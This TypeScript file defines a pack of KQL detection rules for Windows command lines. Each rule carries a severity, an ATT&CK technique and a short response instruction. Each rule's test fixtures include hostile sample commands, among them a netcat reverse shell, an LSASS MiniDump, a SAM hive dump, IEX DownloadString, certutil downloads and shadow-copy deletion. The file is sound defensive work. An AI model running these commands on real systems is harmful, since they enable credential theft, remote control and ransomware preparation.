import { EACH, type Pack, type PackRule } from "./pack.ts";
import { eventIs, holds, runs, started, WINDOWS_SOURCES } from "./windows-fields.ts";

const HOST = { ...EACH, groupBy: ["hostName"] } as const;

const command = (
  rule: Omit<PackRule, "counts" | "leaves" | "groupBy" | "threshold" | "windowSec">,
  counts: string,
  leaves: string,
): PackRule => ({ ...rule, ...HOST, counts: started(counts), leaves: started(leaves) });

export const WINDOWS_COMMANDS: Pack = {
  id: "windows-commands",
  name: "Windows: commands",
  description: "Command lines of processes that attackers use and administrators hardly ever.",
  expects: {
    sources: `${WINDOWS_SOURCES}; process creation with command lines, or crowdstrike-fdr`,
    kql: "isnotempty(CommandLine) or isnotempty(winlog.event_data.CommandLine) or isnotempty(EventData)",
  },
  rules: [
    command(
      {
        id: "windows-log-cleared-by-command",
        name: "A command clears an event log",
        description: "What happened before is to disappear. See who ran it, and what went before.",
        ...{ severity: "high", attackTechnique: "T1070.001" },
        kql: `(${runs("wevtutil")} and ${runs(" cl ", "clear-log")}) or ${runs("Clear-EventLog")}`,
      },
      "wevtutil.exe cl Security",
      "wevtutil.exe el",
    ),
    command(
      {
        id: "windows-secrets-of-registry-saved",
        name: "Parts of the registry with secrets were saved to a file",
        description: "Passwords of accounts and services are in them. Change them, and isolate the machine.",
        ...{ severity: "critical", attackTechnique: "T1003.002" },
        kql: `${runs("reg save", '"reg" save', "reg.exe save", 'reg.exe" save', "reg export", "reg.exe  save")} and ${runs("HKLM\\\\security", "HKLM\\\\sam", "HKLM\\\\system", "HKLM\\security", "HKLM\\sam", "HKLM\\system")}`,
      },
      "reg save HKLM\\sam C:\\Temp\\a",
      "reg save HKCU\\Software\\Shop C:\\Temp\\a",
    ),
    command(
      {
        id: "windows-background-transfer-download",
        name: "A file was downloaded by the background transfer",
        description: "Malware is brought so, past what looks at browsers. See what was downloaded.",
        ...{ severity: "medium", attackTechnique: "T1197" },
        kql: `(${runs("bitsadmin")} and ${runs("/transfer", "/addfile")}) or ${runs("Start-BitsTransfer")}`,
      },
      "bitsadmin /transfer a https://a.example/a C:\\Temp\\a",
      "bitsadmin /list",
    ),
    command(
      {
        id: "windows-certificate-tool-download",
        name: "The tool for certificates downloads or decodes a file",
        description: "It is not made for that; malware is brought so. See which file.",
        ...{ severity: "high", attackTechnique: "T1105" },
        kql: `${runs("certutil")} and ${runs("-urlcache", "/urlcache", "-decode", "/decode", "-verifyctl")}`,
      },
      "certutil -urlcache -f https://a.example/a.exe a.exe",
      "certutil -store My",
    ),
    command(
      {
        id: "windows-hidden-script",
        name: "PowerShell runs an encoded script, hidden and past policy",
        description: "So attackers start their second step. Decode the text, and isolate the machine.",
        ...{ severity: "high", attackTechnique: "T1059.001" },
        kql: `${runs("powershell", "pwsh")} and ${runs(" -enc", " -ec ", " /enc")} and (${runs("-w hidden", "-windowstyle hidden", "-W 1")} or ${runs("bypass")})`,
      },
      "powershell.exe -NonI -W Hidden -Exec Bypass -Enc SQBmAA==",
      "powershell.exe -File C:\\scripts\\backup.ps1",
    ),
    command(
      {
        id: "windows-script-from-network",
        name: "PowerShell runs what it downloads",
        description: "The script never lies on the disk. See the address, and isolate the machine.",
        ...{ severity: "high", attackTechnique: "T1059.001" },
        kql: `${runs("powershell", "pwsh")} and ${runs("DownloadString", "DownloadData", "Invoke-WebRequest", "iwr ", "Net.WebClient")} and ${runs("IEX", "Invoke-Expression")}`,
      },
      "powershell IEX (New-Object Net.WebClient).DownloadString('http://a.example/a')",
      "powershell Invoke-WebRequest https://a.example/setup.msi -OutFile setup.msi",
    ),
    {
      id: "windows-server-starts-shell",
      name: "A server started a shell",
      description: "A hole in the application runs commands. Isolate the machine, then close the hole.",
      ...{ severity: "critical", attackTechnique: "T1190", ...HOST },
      kql: `${eventIs(1, 4688)} and (${holds("ParentImage", "tomcat", "w3wp.exe", "httpd.exe", "nginx.exe", "sqlservr.exe")} or ${holds("ParentProcessName", "tomcat", "w3wp.exe")}) and ${runs("cmd.exe", "powershell", "whoami", "certutil")}`,
      counts: started("cmd.exe /c whoami", { ParentImage: "C:\\inetpub\\w3wp.exe" }),
      leaves: started("cmd.exe /c whoami", { ParentImage: "C:\\Windows\\explorer.exe" }),
    },
    {
      id: "windows-document-starts-shell",
      name: "A program for documents or mail started a shell",
      description: "A macro or a link ran commands. Isolate the machine, and see who got the same mail.",
      ...{ severity: "high", attackTechnique: "T1204.002", ...HOST },
      kql: `(${holds("ParentImage", "winword.exe", "excel.exe", "powerpnt.exe", "outlook.exe", "onenote.exe")} or ParentBaseFileName in~ ("winword.exe", "excel.exe", "powerpnt.exe", "outlook.exe")) and ${runs("cmd.exe", "powershell", "wscript", "mshta", "rundll32", "regsvr32")}`,
      counts: started("cmd.exe /c a.bat", { ParentImage: "C:\\Office\\EXCEL.EXE" }),
      leaves: started("splwow64.exe", { ParentImage: "C:\\Office\\EXCEL.EXE" }),
    },
    command(
      {
        id: "windows-discovery-tool",
        name: "A tool that looks for ways to attack was run",
        description:
          "It lists accounts, rights and holes. Testers use it, too; otherwise isolate the machine.",
        ...{ severity: "high", attackTechnique: "T1087.002" },
        kql: runs(
          "seatbelt.exe",
          "sharphound",
          "bloodhound",
          "winpeas",
          "adfind.exe",
          "powerview",
          "adrecon",
          "SharpUp",
        ),
      },
      "Seatbelt.exe -group=user",
      "systeminfo.exe",
    ),
    command(
      {
        id: "windows-password-tool",
        name: "A tool that takes passwords from a machine was run",
        description: "Everybody who signed in there has to change their password. Isolate the machine.",
        ...{ severity: "critical", attackTechnique: "T1003" },
        kql: runs(
          "mimikatz",
          "sekurlsa::",
          "lsadump::",
          "lazagne",
          "rubeus",
          "pypykatz",
          "MiniDump",
          "procdump -ma lsass",
          "gsecdump",
        ),
      },
      "rundll32.exe comsvcs.dll, MiniDump 624 C:\\a.dmp full",
      "tasklist.exe",
    ),
    command(
      {
        id: "windows-copies-deleted",
        name: "The copies of files that Windows keeps are deleted",
        description: "Ransom comes next. Cut the machine off at once.",
        ...{ severity: "critical", attackTechnique: "T1490" },
        kql: `(${runs("vssadmin", "wmic", "Win32_Shadowcopy")} and ${runs("delete shadows", "shadowcopy delete", "resize shadowstorage", "Remove-WmiObject")}) or (${runs("wbadmin")} and ${runs("delete catalog", "delete backup", "delete systemstatebackup")})`,
      },
      "vssadmin delete shadows /all /quiet",
      "vssadmin list shadows",
    ),
    command(
      {
        id: "windows-recovery-off",
        name: "The recovery of Windows is switched off",
        description: "Ransom comes next. Cut the machine off at once.",
        ...{ severity: "critical", attackTechnique: "T1490" },
        kql: `${runs("bcdedit")} and ${runs("recoveryenabled no", "ignoreallfailures")}`,
      },
      "bcdedit /set {default} recoveryenabled no",
      "bcdedit /enum",
    ),
    command(
      {
        id: "windows-firewall-off",
        name: "The firewall of Windows is switched off",
        description: "The machine can be reached from everywhere. Switch it on again.",
        ...{ severity: "high", attackTechnique: "T1562.004" },
        kql: `(${runs("netsh")} and ${runs("state off", "opmode disable")}) or (${runs("Set-NetFirewallProfile")} and ${runs("-Enabled False")})`,
      },
      "netsh advfirewall set allprofiles state off",
      "netsh advfirewall show allprofiles",
    ),
    command(
      {
        id: "windows-program-run-by-helper",
        name: "A part of Windows runs foreign code",
        description: "Helpers for components and pages are used to get past guards. See what they load.",
        ...{ severity: "high", attackTechnique: "T1218" },
        kql: `(${runs("regsvr32")} and ${runs("/i:http", "scrobj.dll")}) or (${runs("mshta")} and ${runs("http:", "https:", "javascript:", "vbscript:")}) or (${runs("rundll32")} and ${runs("javascript:")})`,
      },
      "regsvr32 /s /u /i:http://a.example/a.sct scrobj.dll",
      "regsvr32 /s C:\\Program Files\\Shop\\shop.dll",
    ),
    command(
      {
        id: "windows-outgoing-shell",
        name: "A shell is given to another machine",
        description: "Somebody works on the machine from there. Cut it off.",
        ...{ severity: "critical", attackTechnique: "T1059" },
        kql: `${runs("nc.exe", "ncat", "netcat", "nc64.exe")} and ${runs(" -e ", " -c cmd", "--exec", " -lvp", " -e cmd")}`,
      },
      "nc.exe -e cmd.exe 203.0.113.7 443",
      "nc.exe -n 203.0.113.7 80",
    ),
    command(
      {
        id: "windows-coins-mined",
        name: "Coins are mined on a machine",
        description: "Somebody uses the machine for themselves. See how the program came.",
        ...{ severity: "high", attackTechnique: "T1496" },
        kql: runs("xmrig", "ethminer", "stratum+tcp", "cpuminer", "minerd.exe", "nicehash", "cgminer"),
      },
      "xmrig.exe -o stratum+tcp://a.example:3333",
      "python.exe train.py",
    ),
    command(
      {
        id: "windows-old-scheduler-used",
        name: "A task was made with the old scheduler",
        description: "Nobody needs it any more; attackers do, for its rights. See what it starts.",
        ...{ severity: "medium", attackTechnique: "T1053.002" },
        kql: `${runs("/interactive", "/every:")} and ${runs("at.exe", "at ")}`,
      },
      "at.exe 09:00 /interactive cmd",
      "schtasks.exe /query",
    ),
    command(
      {
        id: "machine-trusts-new-authority",
        name: "A new authority for certificates is trusted",
        description: "Whoever owns it can read encrypted connections. See whose it is.",
        ...{ severity: "medium", attackTechnique: "T1553.004" },
        kql: `${runs("security add-trusted-cert")} or (${runs("certutil")} and ${runs("-addstore root", "-addstore -f root")})`,
      },
      "security add-trusted-cert -d -r trustRoot ca.pem",
      "security find-certificate -a",
    ),
    command(
      {
        id: "windows-clear-passwords-kept",
        name: "Windows was told to keep passwords in the clear",
        description: "Every sign-in from now on can be read from memory. Set it back.",
        ...{ severity: "high", attackTechnique: "T1112" },
        kql: `${runs("UseLogonCredential")} and ${runs("reg add", "reg.exe add", "Set-ItemProperty")}`,
      },
      "reg add HKLM\\SYSTEM\\WDigest /v UseLogonCredential /d 1",
      "reg query HKLM\\SYSTEM\\WDigest /v UseLogonCredential",
    ),
  ],
};
